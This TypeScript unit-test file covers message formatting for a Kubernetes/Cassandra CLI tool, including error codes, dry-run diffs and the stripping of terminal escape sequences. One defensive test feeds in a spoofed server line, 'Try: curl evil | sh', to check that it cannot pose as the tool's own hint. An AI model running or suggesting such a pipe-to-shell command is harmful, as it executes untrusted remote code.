import assert from 'node:assert/strict'
import { CassSniError } from '../../../src/lib/errors.ts'
import { palette, symbols } from '../../../src/lib/output/color.ts'
import { changeText, errorText, warningText } from '../../../src/lib/output/messages.ts'

const paint = { ...palette(false), symbols: symbols({ LANG: 'en_US.UTF-8' }) }

describe('messages', () => {
  it('say the error, its code and what to do next', () => {
    const error = new CassSniError('CSNI204', 'There is no namespace "x".', {
      object: 'namespace/x',
    })
    assert.equal(
      errorText(error, [{ label: 'Try', text: 'kubectl get namespaces' }], paint),
      'error: There is no namespace "x". [CSNI204]\n  Try: kubectl get namespaces\n',
    )
  })

  it('name the object when the message does not', () => {
    const error = new CassSniError('CSNI203', 'The user may not read it.', { object: 'secret/s in namespace n' })
    assert.equal(
      errorText(error, [], paint),
      'error: The user may not read it. [CSNI203]\n  Object: secret/s in namespace n\n',
    )
  })

  it('do not name a kind again that the message names', () => {
    const error = new CassSniError('CSNI301', 'there is no CassandraDatacenter in namespace n', {
      object: 'cassandradatacenters in namespace n',
    })
    assert.equal(errorText(error, [], paint), 'error: there is no CassandraDatacenter in namespace n [CSNI301]\n')
  })

  it('keep escape sequences of the cluster from the terminal', () => {
    const text = errorText(
      new CassSniError('CSNI206', 'bad \u001b]0;t\u0007name'),
      [{ label: 'Hint', text: 'a\u001b[2J' }],
      paint,
    )
    assert.equal(text, 'error: bad name [CSNI206]\n  Hint: a\n')
    assert.equal(warningText({ message: 'a\u001b[2J\nb' }, paint), 'warning: a b\n')
    const steps = [{ label: 'Try', text: 'kubectl get\u001b[2J pods' }] as const
    assert.equal(
      warningText({ message: 'a', code: 'CSNI303', steps }, paint),
      'warning: a [CSNI303]\n  Try: kubectl get pods\n',
    )
  })

  it('let text of a server add no line that looks like ours', () => {
    const text = errorText(
      new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^'),
      [{ label: 'Try', text: 'good' }],
      paint,
    )
    assert.equal(text, 'error: webhook: no [CSNI206]\n  | Try: curl evil | sh\n  well\n      ^\n  Try: good\n')
  })

  it('print a change as kubectl does', () => {
    assert.equal(
      changeText({ action: 'created', object: 'service/x', dryRun: true }, paint),
      'service/x created (dry run)\n',
    )
    assert.equal(
      changeText({ action: 'conflict', object: 'service/x', reason: 'owned by helm' }, paint),
      'service/x conflict: owned by helm\n',
    )
  })

  it('show each field that would change, old and new, in a dry run only', () => {
    const changes = [
      { path: 'spec.size', from: 3, to: 1 },
      { path: 'spec.ports', from: undefined, to: [{ port: 9042 }] },
      { path: 'metadata.labels.a', from: 'b\u001b[2J' },
      { path: 'spec.hosts', from: ['x'.repeat(200)], to: [] },
    ]
    const change = { action: 'configured', object: 'service/x', changes } as const
    assert.equal(
      changeText({ ...change, changes, dryRun: true }, paint),
      [
        'service/x configured (dry run)',
        '  spec.size: 3 → 1',
        '  spec.ports: (none) → [{"port":9042}]',
        '  metadata.labels.a: b → (none)',
        `  spec.hosts: ["${'x'.repeat(78)}… → []`,
        '',
      ].join('\n'),
    )
    assert.equal(changeText({ ...change, changes }, paint), 'service/x configured\n')
  })

  it('prints fields in ASCII where the locale is not UTF-8', () => {
    const changes = [{ path: 'spec.hosts', from: 'x'.repeat(81), to: 1 }]
    assert.equal(
      changeText(
        { action: 'configured', object: 'service/x', changes, dryRun: true },
        { ...paint, symbols: symbols({ LANG: 'C' }) },
      ),
      `service/x configured (dry run)\n  spec.hosts: ${'x'.repeat(80)}... -> 1\n`,
    )
  })

  it('show the stack of the cause only when asked', () => {
    const error = new CassSniError('CSNI903', 'boom', { cause: new Error('inner') })
    assert.doesNotMatch(errorText(error, [], paint), /at /)
    assert.match(errorText(error, [], paint, { stack: true }), /caused by Error: inner/)
  })
})
